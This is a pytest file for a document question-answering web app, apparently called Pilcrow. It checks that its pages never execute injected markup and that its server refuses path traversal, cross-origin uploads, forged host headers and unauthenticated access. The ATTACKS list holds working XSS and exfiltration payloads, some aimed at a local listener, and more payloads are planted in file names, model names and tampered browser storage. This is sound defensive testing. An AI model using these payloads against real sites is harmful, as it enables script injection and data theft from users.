"""Every character of a document, a name, a title, a question or a model's answer is text; and who may come in."""

import json
import re
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager
from http.client import HTTPConnection
from pathlib import Path
from typing import Any

import httpx
import pytest

import ui
from index.encoder.embedding import Encoder
from index.intake.indexing import index_paths
from index.opening import create_collection
from rag.generation.chat_model import Message
from rag.opened import OpenCollection
from rag.page import uploads
from rag.page.visit import Page
from rag.reading.reader import Reader
from rag.serving.listening import AUTH_VARIABLE, BadAccess, read_users

# Each would run `caught(n)` or fetch from the listener, if any character of it were taken for markup somewhere.
ATTACKS = (
    "<script>caught(1)</script>",
    "<img src=x onerror=caught(2)>",
    "<svg/onload=caught(3)>",
    '"><b onmouseover=caught(4) autofocus onfocus=caught(5) tabindex=1>',
    "' onclick=caught(6) '",
    "<a href=javascript:caught(7)>click</a>",
    "[click](javascript:caught(8))",
    "![leak]({listener}/a.png?d=secret)",
    "<img src={listener}/b.png>",
    "<iframe srcdoc='<script>parent.caught(9)</script>'></iframe>",
    "${caught(10)} {{caught}} {{{caught}}} `${caught(11)}`",
    "{{constructor.constructor('caught(12)')()}}",
    "</textarea></title></style></template></noscript><script>caught(13)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=caught(14)&gt;'>",
    "<form action={listener}><button formaction={listener}>x</button></form>",
    "<link rel=stylesheet href={listener}/c.css><base href={listener}/>",
    "<meta http-equiv=refresh content='0;url={listener}'>",
    "<style>@import '{listener}/d.css'; * {{ background: url({listener}/e) }}</style>",
    "\\u003cscript\\u003ecaught(15)\\u003c/script\\u003e \\x3cimg\\x3e C:\\new\\table",
    "&lt;script&gt;caught(16)&lt;/script&gt; &#60;img src=x onerror=caught(17)&#62;",
    "<x contenteditable onblur=caught(18) onpointerover=caught(19)>hover</x>",
    "\u202e<bdo dir=rtl onfocusin=caught(20)>",
)

TRAP = "() => { window.caughtAll = []; window.caught = n => { window.caughtAll.push(n); }; }"


class Echo:
    """A model that answers with every attack."""

    name, context, notices = "<img src=x onerror=caught(30)>", 8192, ()
    is_small = False

    def __init__(self, attacks: Sequence[str]) -> None:
        self.attacks = attacks

    def count(self, messages: Sequence[Message]) -> int:
        return sum(len(part if isinstance(part, str) else part.text) // 4 for m in messages for part in m.parts)

    def stream(self, messages: Sequence[Message], *, max_tokens: int = 0) -> Iterator[str]:  # noqa: ARG002
        for attack in self.attacks:
            yield f"The bridge says {attack} here [1]. "


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """An address of another host's kind, and what was asked of it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        ended = threading.Event()

        def listen() -> None:
            while not ended.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    heard.append(connection.recv(400))

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
        ended.set()
        thread.join(2)


def test_no_text_is_ever_taken_for_markup(
    visit: Callable[..., Any],
    serving: Callable[..., str],
    encoder: Encoder,
    tmp_path: Path,
    listener: tuple[str, list[bytes]],
) -> None:
    address, heard = listener
    attacks = [attack.replace("{listener}", address) for attack in ATTACKS]
    files = tmp_path / "files"
    files.mkdir()
    body = "\n\n".join(f"The bridge number {n} of the town carries this sign: {a}." for n, a in enumerate(attacks))
    body += f"\n\nThe old bridge of Hollin was built in 1873 by {attacks[0]} and his sons."
    header = f"Title: {attacks[1]}\nPublisher: {attacks[3]}\nDate: 2020-01-01"
    (files / "<img src=x onerror=caught(40)> & 'b'.txt").write_text(f"{header}\n\n{body}\n", encoding="utf-8")
    with create_collection(tmp_path / "collection", encoder.identity) as collection:
        index_paths(collection, encoder, [files])
        with collection.reading() as snapshot:
            (document,) = snapshot.documents()
            text = snapshot.document(document.doc_id).text
            spans = [(p.start, p.end) for p in snapshot.paragraphs(document.doc_id)]
    visitor = visit(serving(tmp_path / "collection", model=Echo(attacks)))
    page = visitor.page
    page.evaluate(TRAP)
    assert attacks[1] in page.locator("#list .row").inner_text()
    turn = visitor.ask("What does the bridge say? " + " ".join(attacks)[:3000])
    (record,) = page.evaluate(
        "Object.keys(localStorage).filter(k => k.includes(':c:')).map(k => JSON.parse(localStorage[k]).turns).flat()"
    )
    claims = [claim["text"] for claim in record["answer"]["claims"]]
    assert turn.locator(".claim").evaluate_all("nodes => nodes.map(node => node.textContent)") == claims
    assert turn.locator(".question").text_content() == record["question"]
    page.select_option("#answerer", "quotes")
    quoted = visitor.ask("When was the old bridge of Hollin built?")
    assert attacks[0] in quoted.locator(".claim").first.text_content()
    quoted.locator("a.cite").first.hover()
    quoted.locator("a.cite").first.click()
    visitor.marked()
    shown = page.locator("#source .par .text").evaluate_all("nodes => nodes.map(node => node.textContent)")
    assert shown == [text[start:end] for start, end in spans]
    new = tmp_path / "<svg onload=caught(50)>.txt"
    new.write_text(attacks[0] + " is the sign of a new bridge in the town.")
    page.set_input_files("#files", [str(new)])
    page.wait_for_function("document.querySelector('#results .good')", timeout=60_000)
    page.click("#limits-button")
    page.select_option("#publisher", attacks[3])
    page.click("#tab-collection")
    page.locator("#list input").first.check()
    page.click("[data-do=only-these]")
    page.click("[data-do=drawer]")
    page.wait_for_timeout(200)
    page.reload()
    page.evaluate(TRAP)
    visitor.ready()
    page.wait_for_selector(".turn.done")
    own = page.evaluate(
        """() => [...document.querySelectorAll('.app *')].filter(node =>
            [...node.attributes].some(a => /^on/.test(a.name))
            || /^(SCRIPT|IFRAME|IMG|SVG|OBJECT|EMBED|STYLE|LINK|META|BASE|MATH|X|BDO)$/i.test(node.tagName)
            || /^\\s*javascript:/i.test(node.getAttribute('href') ?? '')).map(node => node.outerHTML.slice(0, 200))"""
    )
    assert own == []
    assert page.evaluate("window.caughtAll") == []
    assert heard == []


def test_a_conversation_that_was_tampered_with_in_the_browser_is_refused_or_shown_as_text(
    visit: Callable[..., Any], address: str
) -> None:
    visitor = visit(address)
    page = visitor.page
    visitor.ask("How many years was Kenneth Yalowitz a diplomat?")
    page.evaluate(
        """() => { window.caught = n => { window.was = n; };
            for (const key of Object.keys(localStorage).filter(key => key.includes(':c:'))) {
                const kept = JSON.parse(localStorage[key]);
                const worse = structuredClone(kept.turns[0]);
                worse.id = 'b" onclick="caught(1)'; kept.turns.push(worse);
                const bad = structuredClone(kept.turns[0]);
                bad.id = 'other'; bad.answer.generator = '<img src=x onerror=caught(2)>';
                bad.answer.citations[0].document = '"><img src=x onerror=caught(3)>'; kept.turns.push(bad);
                localStorage[key] = JSON.stringify(kept); } }"""
    )
    page.reload()
    visitor.ready()
    page.wait_for_selector("#turn-other")
    assert page.locator(".turn").count() == 2
    assert "could not be read" in page.locator("#toast").inner_text()
    assert "<img src=x onerror=caught(2)>" in page.locator("#turn-other .spoke").inner_text()
    page.locator("#turn-other a.cite").click()
    page.wait_for_selector("#toast:visible")
    assert page.evaluate("window.was") is None


# ---- The server


def call(address: str, function: str, data: object, **options: Any) -> Any:
    config = httpx.get(f"{address}/config", **options).json()
    component = next(c["id"] for c in config["components"] if c["props"].get("elem_id") == "pilcrow")
    body = {"session_hash": "test", "fn_name": function, "component_id": component, "data": data}
    return httpx.post(f"{address}/gradio_api/component_server", json=body, timeout=30, **options)


def test_only_what_was_uploaded_can_be_added(serving: Callable[..., str], tmp_path: Path, encoder: Encoder) -> None:
    create_collection(tmp_path / "collection", encoder.identity).close()
    address = serving(tmp_path / "collection")
    secret = tmp_path / "secret.txt"
    secret.write_text("The password of the town is not to be told to anybody at all.")
    for path in (str(secret), "/etc/passwd", "../secret.txt", ""):
        told = call(address, "page_add", {"path": path, "name": "secret.txt"}).json()
        assert told == {"error": "It did not arrive; send it again."}
    assert secret.exists()
    sent = httpx.post(f"{address}/gradio_api/upload", files={"files": ("../../evil.txt", secret.read_bytes())}).json()
    told = call(address, "page_add", {"path": sent[0], "name": "../../..\\evil\u202e.txt"}).json()
    assert told == {"said": "added"}
    listed = call(address, "page_list", {}).json()
    assert ">evil.txt<" in listed["html"]
    assert not Path(sent[0]).exists()


def test_what_is_too_large_or_comes_from_another_site_is_refused(address: str) -> None:
    assert call(address, "page_list", {}).status_code == 200
    for headers, status in (
        ({"origin": "http://evil.example"}, 403),
        ({"origin": "null"}, 403),
        ({"sec-fetch-site": "cross-site"}, 403),
    ):
        reply = httpx.post(f"{address}/gradio_api/upload", headers=headers, content=b"x")
        assert (headers, reply.status_code) == (headers, status)
    with closing(HTTPConnection(address.removeprefix("http://"), timeout=10)) as connection:
        connection.putrequest("POST", "/gradio_api/upload")
        connection.putheader("Content-Length", "60000000")
        connection.endheaders()
        assert connection.getresponse().status == 413


def test_so_many_files_may_wait_to_be_read_and_no_more(
    serving: Callable[..., str], tmp_path: Path, encoder: Encoder, monkeypatch: pytest.MonkeyPatch
) -> None:
    waiting = tmp_path / "sent"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(waiting))
    create_collection(tmp_path / "collection", encoder.identity).close()
    address = serving(tmp_path / "collection")

    def send(n: int) -> httpx.Response:
        text = f"The bridge number {n} of the town was mended by nobody at all in that year."
        return httpx.post(f"{address}/gradio_api/upload", files={"files": (f"{n}.txt", text)})

    sent = [send(n) for n in range(uploads.MAX_FILES)]
    assert {reply.status_code for reply in sent} == {200}
    refused = send(uploads.MAX_FILES)
    assert refused.status_code == 429
    assert refused.text == "50 files wait to be read, and no more than 50 may; send others later"
    told = call(address, "page_add", {"path": sent[0].json()[0], "name": "0.txt"}).json()
    assert told == {"said": "added"}
    assert send(uploads.MAX_FILES).status_code == 200


def test_the_sample_takes_no_file_and_a_request_without_a_length_is_refused(
    serving: Callable[..., str], sample_folder: Path, address: str
) -> None:
    sample = serving(sample_folder, sample=True)
    refused = httpx.post(f"{sample}/gradio_api/upload", files={"files": ("a.txt", b"text")})
    assert (refused.status_code, refused.text) == (429, "no file is taken here")
    chunked = httpx.post(f"{address}/gradio_api/upload", content=iter([b"a piece", b"another"]))
    assert (chunked.status_code, chunked.text) == (411, "a request must state its length")


def test_every_reply_forbids_other_hosts_scripts_and_frames(address: str) -> None:
    reply = httpx.get(address)
    policy = reply.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "connect-src 'self'" in policy
    assert "frame-ancestors 'none'" in policy
    assert reply.headers["x-content-type-options"] == "nosniff"


def test_a_name_that_was_pointed_at_this_machine_is_not_answered(
    serving: Callable[..., str], sample_folder: Path
) -> None:
    address = serving(sample_folder, hosts=("localhost", "127.0.0.1"))
    assert httpx.get(address).status_code == 200
    assert httpx.get(address, headers={"host": "evil.example"}).status_code == 400


def test_with_users_nobody_else_comes_in(serving: Callable[..., str], sample_folder: Path) -> None:
    address = serving(sample_folder, users={"ann": "correct horse"})
    assert httpx.get(f"{address}/config").status_code == 401
    for path in (
        "/gradio_api/component_server",
        "/gradio_api/upload",
        "/gradio_api/queue/join",
        "/gradio_api/call/ask",
    ):
        assert httpx.post(f"{address}{path}", json={}).status_code in (401, 403)
    with httpx.Client(base_url=address) as client:
        assert client.post("/login", data={"username": "ann", "password": "wrong"}).status_code == 400
        assert client.get("/config").status_code == 401
        assert client.post("/login", data={"username": "ann", "password": "correct horse"}).status_code == 200
        assert client.get("/config").status_code == 200


def test_an_address_that_others_reach_needs_users(
    sample_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(AUTH_VARIABLE, raising=False)
    page = Page(OpenCollection(sample_folder))
    for host in ("0.0.0.0", "::", "192.0.2.1", "example.org"):  # noqa: S104
        with pytest.raises(BadAccess, match="--auth FILE"):
            ui.serve(page, host=host)
    with socket.create_server(("127.0.0.1", 0)) as taken, pytest.raises(BadAccess, match="try --port"):
        ui.serve(page, port=taken.getsockname()[1])
    assert read_users(None) is None
    (tmp_path / "users").write_text("ann:correct: horse\n\nbob:battery\n")
    assert read_users(tmp_path / "users") == {"ann": "correct: horse", "bob": "battery"}
    (tmp_path / "users").write_text("ann:x\nbob\n")
    with pytest.raises(BadAccess, match="line 2"):
        read_users(tmp_path / "users")
    (tmp_path / "users").write_text("\n")
    with pytest.raises(BadAccess, match="names no user"):
        read_users(tmp_path / "users")
    monkeypatch.setenv(AUTH_VARIABLE, "ann:x")
    assert read_users(None) == {"ann": "x"}


REACHED = """
import socket, sys
from pathlib import Path
from urllib.parse import urlsplit
import ui
from rag.opened import OpenCollection
from rag.page.visit import Page
def reach(address):
    socket.create_connection((urlsplit(address).hostname, urlsplit(address).port), timeout=10).close()
    sys.exit("reached")
ui.serve(Page(OpenCollection(Path(sys.argv[1]))), port=0, ready=reach)
"""


def test_the_page_can_be_reached_from_the_moment_that_its_address_is_told(sample_folder: Path) -> None:
    command = [sys.executable, "-W", "ignore", "-c", REACHED, str(sample_folder)]
    done = subprocess.run(
        command, cwd=Path(ui.__file__).parent, capture_output=True, text=True, timeout=100, check=False
    )
    assert done.stderr.splitlines()[:1] == ["reached"]


@contextmanager
def killed(process: "subprocess.Popen[str]") -> Iterator[None]:
    """Kills a process where the block fails, which would wait for its end otherwise."""
    try:
        yield
    except BaseException:
        process.kill()
        raise


def test_the_command_says_where_the_page_is_and_ends_when_told(sample_folder: Path) -> None:
    command = [sys.executable, "-m", "pilcrow", "ui", "--port", "0", "--collection", str(sample_folder)]
    root = Path(ui.__file__).parent
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True, cwd=root) as process, killed(process):
        assert process.stderr is not None
        said = process.stderr.readline()
        (address,) = re.findall(r"^Pilcrow is at (http://127\.0\.0\.1:\d+) ", said)
        assert "Ask your documents" in httpx.get(address, timeout=30).text
        assert "Is Belarus next?" in call(address, "page_list", {}).json()["html"]
        process.send_signal(signal.SIGINT)
        assert process.wait(20) in (0, 130)
        assert "Traceback" not in process.stderr.read()


def test_ten_people_ask_at_once_and_each_gets_their_own_answer(
    serving: Callable[..., str], sample_folder: Path, reader: Reader
) -> None:
    from gradio_client import Client

    assert reader is not None
    address = serving(sample_folder)
    lines = (Path(ui.__file__).parent / "index/sample/questions.jsonl").read_text(encoding="utf-8").splitlines()
    questions = [json.loads(line)["question"] for line in lines[:10]]
    client = Client(address, verbose=False, analytics_enabled=False)
    jobs = [client.submit(question, api_name="/ask") for question in questions]
    given = [json.loads(job.result(timeout=60)) for job in jobs]
    assert [answer["question"] for answer in given] == questions
    alone = [json.loads(client.predict(question, api_name="/ask")) for question in questions]
    assert [answer["citations"] for answer in given] == [answer["citations"] for answer in alone]
    assert any(answer["citations"] for answer in alone)


def test_the_endpoints_are_three_and_documented(address: str) -> None:
    described = httpx.get(f"{address}/gradio_api/info").json()
    assert list(described["named_endpoints"]) == ["/ask", "/search", "/show"]
    assert described["unnamed_endpoints"] == {}
    parameters = {
        name: [p["parameter_name"] for p in e["parameters"]] for name, e in described["named_endpoints"].items()
    }
    assert parameters == {
        "/ask": ["question", "after", "before", "publisher"],
        "/search": ["question", "k", "after", "before", "publisher"],
        "/show": ["document", "start", "end"],
    }
    assert described["named_endpoints"]["/ask"]["description"].startswith("Answers a question from the documents")


# MCP's client leaves streams of its own open when it ends.
@pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning")
def test_the_same_three_are_tools_over_mcp_with_their_arguments_described(
    serving: Callable[..., str], sample_folder: Path
) -> None:
    pytest.importorskip("mcp")
    import asyncio

    from mcp import ClientSession
    from mcp.client.streamable_http import streamable_http_client

    address = serving(sample_folder, mcp=True)

    async def talk() -> tuple[dict[str, Any], Any]:
        async with (
            streamable_http_client(f"{address}/gradio_api/mcp/") as (read, write, _),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            tools = {tool.name: tool.inputSchema for tool in (await session.list_tools()).tools}
            asked = {"question": "How many years was Kenneth Yalowitz a diplomat?"}
            return tools, await session.call_tool("ask", asked)

    with ThreadPoolExecutor(1) as thread:  # the browser's own loop runs in this one
        tools, given = thread.submit(asyncio.run, talk()).result(60)
    assert sorted(tools) == ["ask", "search", "show"]
    assert tools["ask"]["properties"]["question"]["description"] == "In plain words."
    assert tools["search"]["properties"]["k"]["description"] == "At most this many passages, from 1 to 100."
    assert json.loads(given.content[0].text)["citations"][0]["quote"].startswith("Kenneth Yalowitz")
